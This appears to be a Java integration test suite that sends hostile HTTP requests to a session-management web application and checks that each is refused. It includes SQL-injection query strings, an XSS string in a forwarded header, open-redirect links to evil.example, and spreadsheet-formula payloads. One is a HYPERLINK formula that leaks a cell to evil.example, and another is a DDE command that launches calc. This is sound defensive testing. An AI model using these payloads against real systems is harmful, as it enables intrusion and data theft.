package com.activesessions.it.http;

import static com.activesessions.it.http.ConsoleClient.jsonArray;
import static com.activesessions.it.http.ConsoleClient.jsonObject;
import static com.activesessions.it.http.ConsoleClient.redirectPath;
import static com.activesessions.it.http.ProblemAnswers.assertProblem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.activesessions.accounts.domain.Organisation;
import com.activesessions.it.Deployments;
import com.activesessions.it.ServerSettings;
import com.activesessions.it.TestServer;
import com.activesessions.it.UserAgents;
import jakarta.json.JsonObject;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Hostile requests over HTTP, as an attacker with curl sends them: session cookies that are
 * forged, tampered with or belong to no signed-in session; a session id in the URL at sign-in;
 * state changes without their CSRF token; query parameters outside what an operation reads;
 * bodies and headers too large, bodies that are not JSON; a forged client address; a return
 * address on another site. Each is refused, and each leaves everything as it was. The cases and
 * their results are listed in docs/SECURITY.md.
 */
@ExtendWith(ArquillianExtension.class)
class HostileInputOverHttpIT {

    private static final String ALICE = "alice@example.com";
    private static final String ALICE_PASSWORD = "alice-demo-password";
    private static final String BOB = "bob@example.com";
    private static final String BOB_PASSWORD = "bob-demo-password";
    private static final String PASSWORD = "a hostile test's passphrase";
    private static final Pattern CSRF_FIELD = Pattern.compile("name=\"csrf\" value=\"([^\"]+)\"");
    private static final String FORGED_VIEW_STATE = "<input name=\"jakarta.faces.ViewState\" value=\"%s\"/>";
    /** What a page shows when a form is posted with a page state the server does not hold. */
    private static final String PAGE_EXPIRED = "This page had expired; please try again.";
    /** 20 MB: the body of the report, read and parsed whole before it was refused with a 400. */
    private static final long CHUNKED_BODY_BYTES = 20L * 1024 * 1024;

    private static final Pattern FIRST_OPTION = Pattern.compile("<option value=\"([^\"]+)\"");
    /** The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV injection"). */
    private static final String FORMULA_STARTS = "=+-@\t\r";

    @Deployment(testable = false)
    static EnterpriseArchive deployment() {
        return Deployments.application();
    }

    // Session cookies ------------------------------------------------------------------------------------------------

    @Test
    void aTamperedSessionCookieOpensNothingAndTheRealOneStillWorks() {
        ConsoleClient alice = signedIn(ALICE, ALICE_PASSWORD);
        String cookie = alice.sessionCookie();
        char last = cookie.charAt(cookie.length() - 1);

        for (String tampered : List.of(
                cookie.substring(0, cookie.length() - 1) + (last == 'a' ? 'b' : 'a'),
                cookie.substring(0, cookie.length() - 1),
                cookie + "0",
                cookie.toUpperCase(Locale.ROOT),
                cookie + ".other-instance",
                cookie + "%00",
                "../" + cookie)) {
            ConsoleClient forger = new ConsoleClient(UserAgents.FIREFOX);
            forger.useSessionCookie(tampered);

            assertEquals("/login", redirectPath(forger.get("/activesession")), tampered);
            assertProblem(401, forger.get("/api/v1/sessions"));
        }
        assertEquals(200, alice.get("/activesession").statusCode(), "the real session was harmed");
    }

    @Test
    void aLiveSessionThatNeverSignedInOrThatSignedOutOpensNothing() {
        ConsoleClient visitor = new ConsoleClient(UserAgents.IPHONE);
        visitor.get("/login");
        String neverSignedIn = visitor.sessionCookie();
        ConsoleClient signedOut = signedIn(ALICE, ALICE_PASSWORD);
        String endedSession = signedOut.sessionCookie();
        assertEquals(204, signedOut.end(signedOut.currentSessionId()).statusCode());

        for (String foreign : List.of(neverSignedIn, endedSession)) {
            ConsoleClient replay = new ConsoleClient(UserAgents.FIREFOX);
            replay.useSessionCookie(foreign);

            assertEquals("/login", redirectPath(replay.get("/activesession")));
            assertProblem(401, replay.get("/api/v1/sessions"));
            assertProblem(401, replay.endWithoutCsrfToken("AAAAAAAAAAAAAAAAAAAAAA"));
        }
    }

    @Test
    void theSessionIdIsNeverShownInAPageOrAnAnswerNorWrittenToTheServerLog() throws IOException {
        ConsoleClient admin = signedIn("admin@example.com", "admin-demo-password");
        String id = admin.sessionCookie();
        String session = admin.currentSessionId();

        for (String path : List.of(
                "/dashboard",
                "/activesession",
                "/session?id=" + session,
                "/allsessions",
                "/activity",
                "/my-activity",
                "/api/v1/sessions",
                "/api/v1/sessions/" + session,
                "/api/v1/admin/sessions",
                "/api/v1/activity",
                "/api/v1/admin/activity",
                "/activity.csv")) {
            HttpResponse<String> answer = admin.get(path);

            assertEquals(200, answer.statusCode(), path);
            assertFalse(answer.body().contains(id), path + " shows the session id");
        }
        assertEquals(204, admin.end(session).statusCode());
        Path log = Path.of(System.getProperty("payara.server.log"));
        assertTrue(Files.size(log) > 0, "no server log at " + log);
        assertFalse(Files.readString(log, StandardCharsets.ISO_8859_1).contains(id), "the log holds a session id");
    }

    // Session id in the URL ------------------------------------------------------------------------------------------

    @Test
    void aSessionIdInTheUrlIsNotAdoptedBySigningIn() {
        ConsoleClient attacker = new ConsoleClient(UserAgents.FIREFOX);
        String token = csrfOf(attacker.get("/login").body());
        String planted = attacker.sessionCookie();
        ConsoleClient victim = new ConsoleClient(UserAgents.FIREFOX);

        HttpResponse<String> signIn = victim.post(
                "/sign-in;jsessionid=" + planted, Map.of("csrf", token, "email", BOB, "password", BOB_PASSWORD));

        assertEquals("/login", redirectPath(signIn));
        assertFalse(location(signIn).toLowerCase(Locale.ROOT).contains("jsessionid"), location(signIn));
        assertEquals("/login", redirectPath(attacker.get("/activesession")), "the planted session was signed in");
        assertProblem(401, attacker.get("/api/v1/sessions"));
    }

    // CSRF -----------------------------------------------------------------------------------------------------------

    @Test
    void everyApiStateChangeWithoutItsSessionsCsrfTokenIsRefusedAndChangesNothing() {
        Organisation org = newOrganisation();
        ConsoleClient owner = org.owner();
        ConsoleClient phone = signedIn(org.email(), PASSWORD);
        String phonesSession = phone.currentSessionId();
        String token = jsonObject(owner.call(
                        "POST", "/api/v1/tokens", "{\"name\":\"kept\",\"scope\":\"READ\",\"validDays\":7}", Map.of()))
                .getString("id");
        String member = jsonObject(owner.call(
                        "POST",
                        "/api/v1/admin/users",
                        "{\"name\":\"Member\",\"email\":\"member-" + UUID.randomUUID() + "@example.com\","
                                + "\"role\":\"user\"}",
                        Map.of()))
                .getString("id");
        String ownerId = idOfUser(owner, org.email());
        String before = stateOf(owner);
        String otherSessionsToken = phone.get("/api/v1/sessions")
                .headers()
                .firstValue("X-CSRF-Token")
                .orElseThrow();

        List<String[]> changes = List.of(
                new String[] {"POST", "/api/v1/tokens", "{\"name\":\"forged\",\"scope\":\"READ\",\"validDays\":7}"},
                new String[] {"DELETE", "/api/v1/tokens/" + token, null},
                new String[] {"DELETE", "/api/v1/sessions/" + phonesSession, null},
                new String[] {"DELETE", "/api/v1/sessions?scope=others", null},
                new String[] {"PUT", "/api/v1/admin/policy", "{\"idleTimeoutSeconds\":60,\"lifetimeSeconds\":120}"},
                new String[] {"POST", "/api/v1/admin/roles", "{\"name\":\"forged\",\"permissions\":[\"users.manage\"]}"
                },
                new String[] {
                    "POST",
                    "/api/v1/admin/users",
                    "{\"name\":\"Forged\",\"email\":\"forged@example.com\",\"role\":\"admin\"}"
                },
                new String[] {"POST", "/api/v1/admin/users/" + member + "/disable", null},
                new String[] {"PUT", "/api/v1/admin/users/" + member + "/role", "{\"role\":\"admin\"}"},
                new String[] {"DELETE", "/api/v1/admin/users/" + ownerId + "/sessions", null},
                new String[] {"DELETE", "/api/v1/admin/sessions/" + phonesSession, null});
        Map<String, Map<String, String>> forgeries = new LinkedHashMap<>();
        forgeries.put("no token", Map.of("X-Password", PASSWORD));
        forgeries.put("an empty token", Map.of("X-Password", PASSWORD, "X-CSRF-Token", ""));
        forgeries.put("a made-up token", Map.of("X-Password", PASSWORD, "X-CSRF-Token", "forged"));
        forgeries.put("another session's token", Map.of("X-Password", PASSWORD, "X-CSRF-Token", otherSessionsToken));

        for (String[] change : changes) {
            for (Map.Entry<String, Map<String, String>> forgery : forgeries.entrySet()) {
                HttpResponse<String> answer =
                        owner.callWithoutCsrfToken(change[0], change[1], change[2], forgery.getValue());

                assertEquals(403, answer.statusCode(), forgery.getKey() + ": " + change[0] + " " + change[1]);
                assertProblem(403, answer);
            }
        }

        assertEquals(before, stateOf(owner), "a forged change went through");
        assertEquals(200, phone.get("/api/v1/sessions").statusCode(), "a forged change ended a session");
        assertEquals(
                204,
                owner.call("DELETE", "/api/v1/sessions/" + phonesSession, null, Map.of())
                        .statusCode());
        assertProblem(401, phone.get("/api/v1/sessions"));
    }

    @Test
    void aFacesFormPostedWithoutItsOwnViewStateChangesNothing() {
        ConsoleClient alice = signedIn(ALICE, ALICE_PASSWORD);
        ConsoleClient othersSession = signedIn(ALICE, ALICE_PASSWORD);
        String name = "forged-" + UUID.randomUUID();
        String page = alice.get("/api-tokens").body();
        Map<String, String> fields = tokenForm(page, name);

        Map<String, String> noViewState = new LinkedHashMap<>(fields);
        noViewState.put("tokens", "tokens");
        noViewState.put("tokens:create", "");
        alice.post("/api-tokens", noViewState);
        for (String forged : List.of(
                FORGED_VIEW_STATE.formatted("-1234567890123456789:987654321987654321"),
                FORGED_VIEW_STATE.formatted("stateless"),
                othersSession.get("/api-tokens").body())) {
            alice.ajax("/api-tokens", forged, "tokens", "tokens:create", fields);
        }

        assertFalse(alice.get("/api/v1/tokens").body().contains(name), "a forged form made a token");
        alice.ajax("/api-tokens", page, "tokens", "tokens:create", fields);
        assertTrue(
                alice.get("/api/v1/tokens").body().contains(name),
                "the page's own postback must make it, or the forged ones proved nothing");
    }

    @Test
    void aStaleOrForeignViewStateShowsThePageAgainWithTheMessageAndNo500() throws IOException {
        ConsoleClient alice = signedIn(ALICE, ALICE_PASSWORD);
        ConsoleClient othersSession = signedIn(ALICE, ALICE_PASSWORD);
        String name = "stale-" + UUID.randomUUID();
        Path log = Path.of(System.getProperty("payara.server.log"));
        long logBefore = Files.size(log);
        Map<String, String> fields = tokenForm(alice.get("/api-tokens").body(), name);

        for (String stale : List.of(
                FORGED_VIEW_STATE.formatted("-1234567890123456789:987654321987654321"),
                FORGED_VIEW_STATE.formatted("stateless"),
                othersSession.get("/api-tokens").body())) {
            Map<String, String> postback = new LinkedHashMap<>(fields);
            postback.put("tokens", "tokens");
            postback.put("tokens:create", "");
            postback.put("jakarta.faces.ViewState", ConsoleClient.viewStateOf(stale));
            HttpResponse<String> full = alice.post("/api-tokens", postback);

            assertEquals(302, full.statusCode(), "a full postback with a stale page state: " + full.body());
            assertEquals("/api-tokens", redirectPath(full));
            HttpResponse<String> shownAgain = alice.get("/api-tokens");
            assertEquals(200, shownAgain.statusCode());
            assertTrue(shownAgain.body().contains(PAGE_EXPIRED), "the page again, without the message");
            assertFalse(alice.get("/api-tokens").body().contains(PAGE_EXPIRED), "a reload shows the message again");

            HttpResponse<String> ajax = alice.ajax("/api-tokens", stale, "tokens", "tokens:create", fields);

            assertEquals(200, ajax.statusCode(), "an AJAX postback with a stale page state: " + ajax.body());
            assertTrue(ajax.body().contains("<redirect url=\"/api-tokens\""), ajax.body());
            assertTrue(alice.get("/api-tokens").body().contains(PAGE_EXPIRED), "the page again, without the message");
        }

        assertFalse(alice.get("/api/v1/tokens").body().contains(name), "a stale form made a token");
        String logged = Files.readString(log, StandardCharsets.ISO_8859_1).substring((int) logBefore);
        for (String failure : List.of("ViewExpiredException", "could not be restored", "Unable to restore view")) {
            assertFalse(logged.contains(failure), "the log holds a failure: " + failure);
        }
    }

    @Test
    void aSignInWithoutTheLoginFormsTokenOrWithAnotherVisitorsIsRefused() {
        ConsoleClient other = new ConsoleClient(UserAgents.IPHONE);
        String othersToken = csrfOf(other.get("/login").body());

        for (Map<String, String> form : List.of(
                Map.of("email", BOB, "password", BOB_PASSWORD),
                Map.of("csrf", "", "email", BOB, "password", BOB_PASSWORD),
                Map.of("csrf", othersToken, "email", BOB, "password", BOB_PASSWORD))) {
            ConsoleClient forger = new ConsoleClient(UserAgents.FIREFOX);
            forger.get("/login");

            HttpResponse<String> answer = forger.post("/sign-in", form);

            assertEquals("/login", redirectPath(answer), form.keySet().toString());
            assertEquals("expired", URI.create(location(answer)).getQuery());
            assertEquals("/login", redirectPath(forger.get("/activesession")));
        }
    }

    // Query parameters -----------------------------------------------------------------------------------------------

    @Test
    void aQueryParameterTheOperationDoesNotReadIsRefusedAndNamed() {
        ConsoleClient owner = newOrganisation().owner();

        Map<String, String> refused = new LinkedHashMap<>();
        refused.put("/api/v1/sessions?all=true", "all");
        refused.put("/api/v1/sessions/AAAAAAAAAAAAAAAAAAAAAA?debug=1", "debug");
        refused.put("/api/v1/admin/sessions?sortBy=passwordHash", "sortBy");
        refused.put("/api/v1/admin/sessions?sort=ip&orderBy=1", "orderBy");
        refused.put("/api/v1/admin/sessions?users=bob", "users");
        refused.put("/api/v1/activity?user=" + ALICE, "user");
        refused.put("/api/v1/admin/activity?organisation=1", "organisation");
        refused.put("/api/v1/admin/usage?from=2026-11-01&to=2026-11-02&where=1%3D1", "where");
        refused.put("/api/v1/tokens?owner=" + ALICE, "owner");

        for (Map.Entry<String, String> query : refused.entrySet()) {
            HttpResponse<String> answer = owner.get(query.getKey());

            assertProblem(400, answer);
            assertEquals(query.getValue(), jsonObject(answer).getString("field"), query.getKey());
        }
        assertEquals(200, owner.get("/api/v1/admin/sessions?sort=ip&order=asc").statusCode());
    }

    @Test
    void aSortOrFilterValueOutsideTheAllowedSetIsRefusedAndAFilterIsTakenLiterally() {
        ConsoleClient owner = newOrganisation().owner();

        for (String query : List.of(
                "/api/v1/admin/sessions?sort=passwordHash",
                "/api/v1/admin/sessions?sort=user%20DESC,%20(SELECT%201)",
                "/api/v1/admin/sessions?order=asc;DELETE",
                "/api/v1/admin/sessions?first=-1",
                "/api/v1/admin/sessions?size=0",
                "/api/v1/admin/sessions?status=ACTIVE%27%20OR%20%271%27=%271",
                "/api/v1/admin/activity?type=SIGNED_IN%27--",
                "/api/v1/admin/activity?ip=1%27%20OR%20%271%27%3D%271",
                "/api/v1/admin/sessions?first=abc",
                "/api/v1/admin/sessions?size=99999999999",
                "/api/v1/admin/activity?before=1%20OR%201=1",
                "/api/v1/admin/activity?limit=ten",
                "/api/v1/admin/activity?limit=100000",
                "/api/v1/activity?from=2026-02-30")) {
            assertProblem(400, owner.get(query));
        }
        assertEquals(
                "first",
                jsonObject(owner.get("/api/v1/admin/sessions?first=abc")).getString("field"));
        assertEquals(
                "limit",
                jsonObject(owner.get("/api/v1/admin/activity?limit=ten")).getString("field"));
        for (String wildcard : List.of("%25", "_", "%27%20OR%20%271%27%3D%271")) {
            JsonObject sessions = jsonObject(owner.get("/api/v1/admin/sessions?user=" + wildcard));
            JsonObject activity = jsonObject(owner.get("/api/v1/admin/activity?user=" + wildcard));

            assertEquals(0, sessions.getInt("total"), "a filter matched as a pattern: " + wildcard);
            assertEquals(0, activity.getJsonArray("events").size(), "a filter matched as a pattern: " + wildcard);
        }
    }

    // Oversized requests ---------------------------------------------------------------------------------------------

    @Test
    void aBodyLargerThanAnyFormOrCallTakesIsRefusedWith413AndNothingIsStored() {
        ConsoleClient owner = newOrganisation().owner();
        String tokensBefore = owner.get("/api/v1/tokens").body();
        String hugeName = "x".repeat(3 * 1024 * 1024);

        HttpResponse<String> json = owner.call(
                "POST",
                "/api/v1/tokens",
                "{\"name\":\"" + hugeName + "\",\"scope\":\"READ\",\"validDays\":7}",
                Map.of());
        ConsoleClient stranger = new ConsoleClient(UserAgents.FIREFOX);
        String token = csrfOf(stranger.get("/login").body());
        HttpResponse<String> signIn =
                stranger.post("/sign-in", Map.of("csrf", token, "email", BOB, "password", BOB_PASSWORD, "x", hugeName));
        String email = "huge-" + UUID.randomUUID() + "@example.com";
        HttpResponse<String> signUp = new ConsoleClient(UserAgents.FIREFOX).signUp(hugeName, email, PASSWORD, "Huge");

        assertProblem(413, json);
        assertEquals(tokensBefore, owner.get("/api/v1/tokens").body(), "an oversized call made a token");
        for (HttpResponse<String> page : List.of(signIn, signUp)) {
            assertEquals(413, page.statusCode(), page.uri().toString());
            assertTrue(page.headers().firstValue("Content-Type").orElse("").startsWith("text/plain"));
            assertFalse(page.body().contains("Payara"), "the answer names the server: " + page.body());
        }
        assertEquals("/login", redirectPath(stranger.get("/activesession")), "an oversized sign-in signed in");
        assertEquals(
                "failed",
                URI.create(location(new ConsoleClient(UserAgents.FIREFOX).signIn(email, PASSWORD)))
                        .getQuery(),
                "an oversized sign-up made an account");
    }

    @Test
    void aChunkedBodyPastTheLimitIsRefusedWith413BeforeItIsReadWhole() throws Exception {
        ConsoleClient owner = newOrganisation().owner();
        String tokensBefore = owner.get("/api/v1/tokens").body();
        String csrf = owner.get("/api/v1/sessions")
                .headers()
                .firstValue("X-CSRF-Token")
                .orElseThrow();

        RawHttp.Answer answer = RawHttp.sendChunked(
                "POST /api/v1/tokens HTTP/1.1",
                List.of(
                        "Cookie: JSESSIONID=" + owner.sessionCookie(),
                        "X-CSRF-Token: " + csrf,
                        "Content-Type: application/json",
                        "Accept: application/json"),
                "{\"scope\":\"READ\",\"validDays\":7,\"name\":\"".getBytes(StandardCharsets.US_ASCII),
                RawHttp.filler('x'),
                CHUNKED_BODY_BYTES);

        System.out.printf(
                "Chunked body of %d bytes: %s after %d ms, %d bytes sent by then%n",
                CHUNKED_BODY_BYTES, answer.statusLine(), answer.millisToAnswer(), answer.bodyBytesSent());
        assertEquals(413, answer.status(), answer.statusLine() + " after " + answer.millisToAnswer() + " ms");
        assertTrue(answer.body().contains("\"status\":413"), answer.body());
        assertTrue(
                answer.bodyBytesSent() < CHUNKED_BODY_BYTES / 2,
                answer.bodyBytesSent() + " bytes were sent before the answer: the body was read whole");
        assertTrue(answer.millisToAnswer() < 5_000, "413 after " + answer.millisToAnswer() + " ms");
        assertEquals(tokensBefore, owner.get("/api/v1/tokens").body(), "a chunked call made a token");
    }

    @Test
    void aChunkedFormIsReadAsItsFieldsUpToTheLimitAndRefusedWith413Past() throws Exception {
        ConsoleClient bob = new ConsoleClient(UserAgents.FIREFOX);
        String form = "csrf=" + encode(bob.openLoginPage()) + "&email=" + encode(BOB) + "&password="
                + encode(BOB_PASSWORD) + "&x=";
        List<String> headers =
                List.of("Cookie: JSESSIONID=" + bob.sessionCookie(), "Content-Type: application/x-www-form-urlencoded");

        RawHttp.Answer tooLarge = RawHttp.sendChunked(
                "POST /sign-in HTTP/1.1",
                headers,
                form.getBytes(StandardCharsets.US_ASCII),
                RawHttp.filler('x'),
                CHUNKED_BODY_BYTES);
        RawHttp.Answer small = RawHttp.sendChunked(
                "POST /sign-in HTTP/1.1",
                headers,
                form.getBytes(StandardCharsets.US_ASCII),
                RawHttp.filler('x'),
                form.length() + 100);

        assertEquals(413, tooLarge.status(), tooLarge.statusLine() + " after " + tooLarge.millisToAnswer() + " ms");
        assertTrue(
                tooLarge.header("Content-Type").get(0).startsWith("text/plain"),
                tooLarge.headers().toString());
        assertTrue(tooLarge.bodyBytesSent() < CHUNKED_BODY_BYTES / 2, tooLarge.bodyBytesSent() + " bytes sent");
        assertEquals(302, small.status(), small.statusLine());
        assertEquals(
                "/",
                URI.create(small.header("Location").get(0)).getPath(),
                "a small chunked sign-in was not read as its fields");
    }

    @Test
    void oversizedHeadersAndAddressesAreRefusedBeforeTheApplicationSeesThem() throws Exception {
        ConsoleClient bob = new ConsoleClient(UserAgents.FIREFOX);
        String token = csrfOf(bob.get("/login").body());
        String cookie = "JSESSIONID=" + bob.sessionCookie();
        String form = "csrf=" + encode(token) + "&email=" + encode(BOB) + "&password=" + encode(BOB_PASSWORD);
        String huge = "h".repeat(64 * 1024);

        List<HttpRequest> oversized = new ArrayList<>();
        oversized.add(signInRequest("/sign-in", cookie, form)
                .header("X-Padding", huge)
                .build());
        oversized.add(
                signInRequest("/sign-in", cookie + "; padding=" + huge, form).build());
        oversized.add(
                signInRequest("/sign-in?" + "q=".repeat(20_000), cookie, form).build());
        HttpRequest.Builder manyHeaders = signInRequest("/sign-in", cookie, form);
        for (int i = 0; i < 200; i++) {
            manyHeaders.header("X-Padding-" + i, "x");
        }
        oversized.add(manyHeaders.build());

        HttpClient http = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .followRedirects(HttpClient.Redirect.NEVER)
                .build();
        for (HttpRequest request : oversized) {
            String what = request.headers().map().size() + " headers, target of "
                    + request.uri().toString().length() + " characters";
            try {
                HttpResponse<String> answer = http.send(request, HttpResponse.BodyHandlers.ofString());

                assertEquals(400, answer.statusCode(), what);
                assertEquals("", answer.body(), what);
            } catch (IOException closedWhileTheClientWasStillSending) {
                // Payara answers 400 past its 16 KiB header buffer and closes; when the rest of the headers are still
                // arriving, the kernel resets the connection and the client may lose the 400. Still refused.
                assertTrue(isConnectionClosedWithoutAnswer(closedWhileTheClientWasStillSending), what);
            }
        }
        assertEquals("/login", redirectPath(bob.get("/activesession")), "an oversized request signed in");
        assertEquals(
                "/",
                redirectPath(bob.post("/sign-in", Map.of("csrf", token, "email", BOB, "password", BOB_PASSWORD))),
                "the same sign-in, of a normal size, must pass, or the oversized ones proved nothing");
    }

    // Bodies that are not JSON ---------------------------------------------------------------------------------------

    @Test
    void aBodyThatIsNotJsonOfTheRightShapeOrTypeIsRefusedAndChangesNothing() {
        Organisation org = newOrganisation();
        ConsoleClient owner = org.owner();
        String member = idOfUser(owner, org.email());
        String before = stateOf(owner);
        List<String[]> endpoints = List.of(
                new String[] {"POST", "/api/v1/tokens"},
                new String[] {"PUT", "/api/v1/admin/policy"},
                new String[] {"POST", "/api/v1/admin/roles"},
                new String[] {"POST", "/api/v1/admin/users"},
                new String[] {"PUT", "/api/v1/admin/users/" + member + "/role"});

        for (String[] endpoint : endpoints) {
            for (String malformed : List.of(
                    "{\"name\":",
                    "not json at all",
                    "[]",
                    "[{\"name\":\"x\"}]",
                    "\"a string\"",
                    "{\"name\":{\"nested\":true},\"validDays\":\"seven\",\"idleTimeoutSeconds\":\"soon\","
                            + "\"permissions\":\"users.manage\",\"role\":[\"admin\"],\"email\":42}",
                    "{\"idleTimeoutSeconds\":1e400,\"lifetimeSeconds\":-5,\"validDays\":99999999999}",
                    "{\"idleTimeoutSeconds\":9223372036854775807,\"lifetimeSeconds\":9223372036854775807}",
                    "{\"idleTimeoutSeconds\":1,\"lifetimeSeconds\":59}",
                    "",
                    "[".repeat(10_000))) {
                HttpResponse<String> answer = owner.call(endpoint[0], endpoint[1], malformed, Map.of());

                assertEquals(400, answer.statusCode(), endpoint[0] + " " + endpoint[1] + " " + malformed);
                assertProblem(400, answer);
            }
            for (String type : List.of(
                    "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/xml")) {
                assertProblem(415, owner.call(endpoint[0], endpoint[1], "{}", Map.of("Content-Type", type)));
            }
        }

        assertEquals(before, stateOf(owner), "a malformed body changed something");
    }

    // Forwarded addresses --------------------------------------------------------------------------------------------

    @Test
    void aForwardedAddressFromAnUntrustedPeerIsIgnoredInTheSessionAndTheLog() {
        Map<String, String> forged = Map.of(
                "X-Forwarded-For", "203.0.113.66",
                "X-Real-IP", "203.0.113.67",
                "Forwarded", "for=203.0.113.68",
                "Client-IP", "203.0.113.69");
        ConsoleClient spoofer = new ConsoleClient(UserAgents.FIREFOX, forged);

        assertEquals("/", redirectPath(spoofer.signIn(BOB, BOB_PASSWORD)));

        String peer = currentAddress(spoofer);
        assertFalse(peer.startsWith("203.0.113."), "a forged header set the address: " + peer);
        JsonObject signIn = jsonObject(spoofer.get("/api/v1/activity?type=SIGNED_IN&limit=1"))
                .getJsonArray("events")
                .getJsonObject(0);
        assertEquals(peer, signIn.getString("ipAddress"));
    }

    @Test
    void behindATrustedProxyAnAddressThatIsNotOneIsIgnoredAndSoAreHopsBeforeTheNearest() {
        String peer = currentAddress(signedIn(BOB, BOB_PASSWORD));

        try (ServerSettings settings = new ServerSettings().set("activesessions.network.trusted-proxies", peer)) {
            ConsoleClient garbage = new ConsoleClient(
                    UserAgents.FIREFOX, Map.of("X-Forwarded-For", "203.0.113.5, <script>alert(1)</script>"));
            ConsoleClient chain = new ConsoleClient(
                    UserAgents.FIREFOX, Map.of("X-Forwarded-For", "198.51.100.7, 203.0.113.5, " + peer));
            assertEquals("/", redirectPath(garbage.signIn(BOB, BOB_PASSWORD)));
            assertEquals("/", redirectPath(chain.signIn(BOB, BOB_PASSWORD)));

            assertEquals(peer, currentAddress(garbage), "a hop that is no address was taken");
            assertEquals("203.0.113.5", currentAddress(chain), "the nearest untrusted hop is the client");
        }
    }

    // Return address after sign-in -----------------------------------------------------------------------------------

    @Test
    void aReturnAddressOnAnotherSiteIsIgnoredAfterSignIn() throws IOException {
        for (String link : List.of(
                "//evil.example/phish",
                "///evil.example/phish",
                "/%2F%2Fevil.example/phish",
                "/%09/evil.example",
                "/%5C%5Cevil.example",
                "/https://evil.example/phish",
                "/activesession?next=https://evil.example")) {
            ConsoleClient browser = new ConsoleClient(UserAgents.FIREFOX, Map.of("Accept", "text/html"));
            browser.get(link);

            URI landed = TestServer.baseUri().resolve(location(browser.signIn(BOB, BOB_PASSWORD)));

            assertEquals(TestServer.baseUri().getAuthority(), landed.getAuthority(), link);
            assertFalse(landed.getRawPath().startsWith("//"), link + " -> " + landed);
        }
        for (String target : List.of("/\\evil.example", "/\\/evil.example")) {
            assertTrue(
                    RawHttp.send("GET " + target + " HTTP/1.1", "Accept: text/html")
                            .statusLine()
                            .startsWith("HTTP/1.1 400"),
                    target);
        }
    }

    // CSV exports ----------------------------------------------------------------------------------------------------

    @Test
    void aFormulaInANameAnAddressOrABrowserComesOutOfTheExportsDefusedAndInItsOwnField() {
        String formulaName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        String formulaEmail = "=1+2-" + UUID.randomUUID() + "@example.com";
        ConsoleClient owner = new ConsoleClient("@SUM(1+1)*cmd|' /C calc'!A0");
        assertEquals(
                "/",
                redirectPath(
                        owner.signUpAndSignIn(formulaName, formulaEmail, PASSWORD, "+Formula " + UUID.randomUUID())));
        String today = LocalDate.now(ZoneOffset.UTC).toString();

        List<List<String>> usage = CsvRows.parse(
                owner.get("/usage.csv?from=" + today + "&to=" + today).body());
        List<List<String>> activity = CsvRows.parse(owner.get("/activity.csv").body());

        for (List<List<String>> csv : List.of(usage, activity)) {
            for (List<String> row : csv) {
                assertEquals(csv.get(0).size(), row.size(), "a value broke out of its field: " + row);
                for (String field : row) {
                    assertTrue(
                            field.isEmpty() || FORMULA_STARTS.indexOf(field.charAt(0)) < 0,
                            "a field that a spreadsheet runs: " + field);
                }
            }
        }
        assertTrue(usage.stream().anyMatch(row -> row.contains("'" + formulaName)), usage::toString);
        assertTrue(usage.stream().anyMatch(row -> row.contains("'" + formulaEmail)), usage::toString);
        assertTrue(activity.stream().anyMatch(row -> row.contains("'" + formulaEmail)), activity::toString);
    }

    // Helpers --------------------------------------------------------------------------------------------------------

    /** A new organisation, its owner (an administrator) signed in. */
    private record Organisation(ConsoleClient owner, String email) {}

    private static Organisation newOrganisation() {
        ConsoleClient owner = new ConsoleClient(UserAgents.FIREFOX);
        String email = "hostile-" + UUID.randomUUID() + "@example.com";
        HttpResponse<String> signedUp =
                owner.signUpAndSignIn("Hostile Test", email, PASSWORD, "Hostile " + UUID.randomUUID());
        assertEquals("/", redirectPath(signedUp));
        return new Organisation(owner, email);
    }

    private static ConsoleClient signedIn(String email, String password) {
        ConsoleClient client = new ConsoleClient(UserAgents.FIREFOX);
        assertEquals("/", redirectPath(client.signIn(email, password)));
        return client;
    }

    /** All that the state changes above could change, as the owner reads it. */
    private static String stateOf(ConsoleClient owner) {
        return String.join(
                "\n",
                owner.get("/api/v1/tokens").body(),
                owner.get("/api/v1/admin/policy").body(),
                owner.get("/api/v1/admin/roles").body(),
                owner.get("/api/v1/admin/users").body(),
                owner.get("/api/v1/admin/sessions/counts").body());
    }

    private static String idOfUser(ConsoleClient admin, String email) {
        return jsonArray(admin.get("/api/v1/admin/users")).getValuesAs(JsonObject.class).stream()
                .filter(user -> user.getString("email").equals(email))
                .findFirst()
                .orElseThrow()
                .getString("id");
    }

    private static String currentAddress(ConsoleClient client) {
        return client.currentSession().getString("ipAddress");
    }

    /** The api-tokens page's form, filled with a name and the first choice of each list. */
    private static Map<String, String> tokenForm(String page, String name) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("tokens:name", name);
        for (String list : List.of("tokens:scope", "tokens:validDays")) {
            Matcher option = FIRST_OPTION.matcher(page.substring(page.indexOf("id=\"" + list + "_input\"")));
            assertTrue(option.find(), "no choice in " + list);
            fields.put(list + "_input", option.group(1));
        }
        return fields;
    }

    private static String csrfOf(String loginPage) {
        Matcher field = CSRF_FIELD.matcher(loginPage);
        assertTrue(field.find(), "the login page has no CSRF field");
        return field.group(1);
    }

    private static String location(HttpResponse<String> response) {
        String location = response.headers().firstValue("Location").orElse(null);
        assertNotNull(location, "no redirect: " + response.statusCode());
        return location;
    }

    /** The ways java.net.http reports a connection that the server closed or reset before any answer arrived. */
    private static boolean isConnectionClosedWithoutAnswer(IOException failure) {
        String message = String.valueOf(failure.getMessage());
        return message.contains("header parser received no bytes")
                || message.contains("Connection reset")
                || message.contains("Broken pipe")
